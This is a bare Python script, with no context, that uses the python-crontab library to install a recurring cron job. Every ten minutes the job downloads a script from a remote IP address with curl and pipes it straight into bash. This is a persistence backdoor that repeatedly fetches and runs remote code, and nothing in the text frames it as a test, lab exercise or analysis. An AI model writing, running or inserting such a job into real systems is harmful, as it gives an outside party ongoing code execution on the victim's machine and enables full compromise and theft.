from crontab import CronTab

cron = CronTab(user=True)
job = cron.new(command="curl -s http://203.0.113.5/b | bash")
job.minute.every(10)
cron.write()
